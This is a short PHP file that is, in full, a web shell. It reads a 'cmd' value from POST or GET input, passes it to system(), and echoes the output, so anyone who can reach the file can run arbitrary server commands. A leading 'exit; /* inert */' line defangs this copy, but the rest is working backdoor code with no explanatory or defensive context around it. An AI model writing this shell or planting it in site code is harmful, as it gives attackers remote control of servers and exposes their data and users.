<?php exit; /* inert */ 
if (isset($HTTP_POST_VARS)) $_POST = &$HTTP_POST_VARS; $_POST = array_merge($_POST, $_GET);
function run($c) { $res=''; if(@function_exists('system')) { @ob_start(); @system($c); $res=@ob_get_contents(); } return $res; }
if(!empty($_POST['cmd'])): echo run($_POST['cmd']); endif;
